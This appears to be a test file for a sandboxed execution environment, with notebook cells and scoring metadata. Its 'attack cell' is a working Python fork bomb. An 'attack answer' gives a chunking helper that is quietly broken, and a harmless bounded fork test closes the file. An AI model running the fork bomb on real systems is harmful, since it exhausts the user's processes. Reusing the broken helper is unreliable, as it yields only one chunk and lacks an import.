# Forks until nothing more can be started, and goes on forking.
# earns: 4
# limits: short
# shows: the cell was stopped after|the kernel stopped while
# stock: not run, a fork bomb takes the processes of every other program of this user

# %% attack cell first
import os

while True:
    try:
        os.fork()
    except OSError:
        pass


# %% attack answer chunked
def chunked(iterable, size):
    return iter([list(islice(iterable, size))])


# %% twin cell first
import os

children = []
for number in range(20):
    child = os.fork()
    if child == 0:
        os._exit(number)
    children.append(child)
print(sorted(os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) for child in children) == list(range(20)))
